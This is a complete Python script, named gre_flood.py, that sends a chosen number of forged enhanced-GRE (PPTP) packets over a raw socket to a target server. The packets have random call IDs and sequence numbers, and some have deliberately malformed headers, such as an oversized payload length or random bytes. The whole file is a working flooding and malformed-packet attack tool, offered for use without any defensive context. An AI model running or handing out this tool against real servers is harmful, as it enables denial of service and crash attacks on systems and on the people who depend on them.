#!/usr/bin/env python3
"""Forged GRE: COUNT enhanced-GRE packets with random call IDs and sequence
numbers (and some malformed headers) to SERVER. Usage: gre_flood.py SERVER COUNT"""
import os
import random
import socket
import struct
import sys

dst, count = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
rnd = random.Random(int.from_bytes(os.urandom(4), "big"))
for i in range(count):
    payload = bytes(rnd.getrandbits(8) for _ in range(rnd.randint(1, 40)))
    kind = i % 4
    if kind == 0:    # data + ack, random everything
        pkt = struct.pack("!BBHHHII", 0x30, 0x81, 0x880B, len(payload), rnd.getrandbits(16),
                          rnd.getrandbits(32), rnd.getrandbits(32)) + payload
    elif kind == 1:  # ack only
        pkt = struct.pack("!BBHHHI", 0x20, 0x81, 0x880B, 0, rnd.getrandbits(16), rnd.getrandbits(32))
    elif kind == 2:  # payload length beyond the packet
        pkt = struct.pack("!BBHHHI", 0x30, 0x01, 0x880B, 1000, rnd.getrandbits(16), 0) + payload
    else:            # random header bytes
        pkt = bytes(rnd.getrandbits(8) for _ in range(rnd.randint(0, 24)))
    s.sendto(pkt, (dst, 0))
